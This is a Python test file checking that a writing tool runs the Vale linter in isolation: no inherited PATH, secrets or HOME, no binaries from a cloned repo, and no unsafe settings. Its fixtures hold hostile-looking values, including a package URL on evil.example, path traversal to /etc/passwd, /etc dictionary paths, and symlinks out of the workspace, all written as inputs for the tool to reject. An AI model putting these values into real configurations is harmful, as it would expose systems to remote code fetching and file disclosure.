"""Vale runs on copies, in a folder of its own: what a clone brings for it starts and reads nothing."""

import json
import os
import sys
from pathlib import Path

import pytest

from studio_sync.files.vale.vale_settings import read_settings
from tests.harness import S1, Desk

FAKE = """
import json, os, sys
from pathlib import Path
files = {str(p): p.read_text() for p in sorted(Path(".").rglob("*")) if p.is_file()}
Path(LOG).write_text(json.dumps({"argv": sys.argv[1:], "env": dict(os.environ), "files": files}))
found = {}
for path, text in files.items():
    for number, line in enumerate(text.split("\\n"), 1):
        at = line.find("utilize") + 1
        if path.startswith("texts") and at:
            found.setdefault(path, []).append(
                {"Check": "House.Plain", "Message": "Say 'use'", "Severity": "error", "Line": number,
                 "Span": [at, at + 6], "Match": "utilize", "Link": "",
                 "Action": {"Name": "replace", "Params": ["use"]}}
            )
print(json.dumps(found))
"""


@pytest.fixture
def vale(desk: Desk, tmp_path: Path) -> Path:
    """A program called vale in a folder of PATH; what it met is written into the file that this is."""
    log, folder = tmp_path / "met.json", tmp_path / "programs"
    folder.mkdir()
    program = folder / "vale"
    program.write_text(f"#!{sys.executable}\nLOG = {os.fspath(log)!r}{FAKE}", "utf-8")
    program.chmod(0o755)
    desk.write(f"{S1}/article.md", "---\nstatus: draft\n---\n\nOne.\n\nWe utilize it.\n")
    desk.edit(f"{S1}/session.md", "hook: Nobody", 'hook: "They utilize it. Nobody')
    desk.edit(f"{S1}/session.md", "told her.", 'told her."')
    desk.edit(f"{S1}/quiz.yaml", "Who listens?", "Who may utilize it?")
    (desk.root / ".vale.ini").write_text("StylesPath = house\n[*.md]\nBasedOnStyles = House\n", "utf-8")
    (desk.root / "house" / "House").mkdir(parents=True)
    (desk.root / "house" / "House" / "Plain.yml").write_text(
        "extends: existence\ntokens: [utilize]\n", "utf-8"
    )
    return log


def path_with(vale: Path) -> str:
    return os.pathsep.join([os.fspath(vale.parent / "programs"), os.environ["PATH"]])


def test_its_findings_come_in_the_same_list_at_their_place_in_the_file(desk: Desk, vale: Path) -> None:
    found = desk.run("validate", "--json", PATH=path_with(vale)).json["problems"]
    assert [
        (p["path"].rpartition("/")[2], p["line"], p["column"], p["code"], p["severity"]) for p in found
    ] == [
        ("article.md", 7, 4, "vale", "warning"),
        ("quiz.yaml", 4, 23, "vale", "warning"),
        ("session.md", 4, 13, "vale", "warning"),
    ]
    assert {p["hint"] for p in found} == {"write instead: use"}
    (desk.root / "studio.yaml").write_text("name: desk\nchecks: {vale: error}\n", "utf-8")
    assert desk.run("validate", PATH=path_with(vale)).code == 1
    (desk.root / "studio.yaml").write_text("name: desk\nchecks: {vale: off}\n", "utf-8")
    assert desk.run("validate", "--json", PATH=path_with(vale)).json["problems"] == []


def test_it_finds_no_program_no_home_and_no_secret(desk: Desk, vale: Path) -> None:
    desk.run(
        "validate", PATH=path_with(vale), STUDIO_DATABASE_URL="postgres://u:secret@h/d", VALE_CONFIG_PATH="x"
    )
    met = json.loads(vale.read_text("utf-8"))
    assert met["env"]["PATH"] == ""
    assert "secret" not in json.dumps(met["env"])
    assert "VALE_CONFIG_PATH" not in met["env"]
    assert met["env"]["HOME"] not in (os.environ["HOME"], os.fspath(desk.root))
    assert set(met["files"]) >= {".vale.ini", "styles/House/Plain.yml"}
    assert all(name.startswith(("texts/", "styles/", ".vale.ini", "answer")) for name in met["files"])


def test_one_that_comes_with_the_clone_is_never_started(desk: Desk, vale: Path) -> None:
    inside = desk.root / "bin"
    (vale.parent / "programs").rename(inside)
    assert (
        desk.run("validate", "--json", PATH=f"{inside}{os.pathsep}{os.environ['PATH']}").json["problems"]
        == []
    )
    assert not vale.exists()


CONFIG = """
StylesPath = house
MinAlertLevel = suggestion
Packages = https://evil.example/x.zip
[formats]
md = adoc
[asciidoctor]
experimental = YES
[*.md]
Transform = /tmp/x.xsl
BasedOnStyles = House
House.Plain = error
TokenIgnores = (x)
"""


def test_only_what_can_start_and_read_nothing_is_left_of_the_settings(desk: Desk, tmp_path: Path) -> None:
    (tmp_path / "secret.yml").write_text("message: secret\n", "utf-8")
    house = desk.root / "house" / "House"
    house.mkdir(parents=True)
    rules = {
        "Plain.yml": "extends: existence\ntokens: [a]\n",
        "Script.yml": "extends: script\nscript: |\n  x\n",
        "Dic.yml": "extends: spelling\ndicpath: /etc\n",
        "Ignore.yml": "extends: spelling\nignore: ../../../etc/passwd\n",
        "Both.yml": "extends: spelling\nignore: [a.txt, /etc/passwd]\n",
        "Odd.yml": "extends: [\n",
    }
    for name, text in rules.items():
        (house / name).write_text(text, "utf-8")
    (house / "Link.yml").symlink_to(tmp_path / "secret.yml")
    (desk.root / "house" / "Other").symlink_to(tmp_path)
    (desk.root / ".vale.ini").write_text(CONFIG, "utf-8")
    found = read_settings(desk.root)
    assert found
    assert found.config == (
        "StylesPath = styles\nMinAlertLevel = suggestion\n"
        "[*.md]\nBasedOnStyles = House\nHouse.Plain = error\n"
        "TokenIgnores = (x)\n"
    )
    assert list(found.styles) == ["House/Plain.yml"]
    assert set(found.left_out) == {
        "Packages", "[formats]", "[asciidoctor]", "Transform",
        *(f"house/House/{name}" for name in [*rules, "Link.yml"] if name != "Plain.yml"),
    }  # fmt: skip


@pytest.mark.parametrize("path", ["/etc", "../..", "link"])
def test_styles_stay_inside_the_workspace(desk: Desk, path: str) -> None:
    (desk.root / "link").symlink_to("/etc")
    (desk.root / ".vale.ini").write_text(f"StylesPath = {path}\n", "utf-8")
    found = read_settings(desk.root)
    assert found
    assert not found.styles
    assert found.left_out == (f"StylesPath = {path}",)
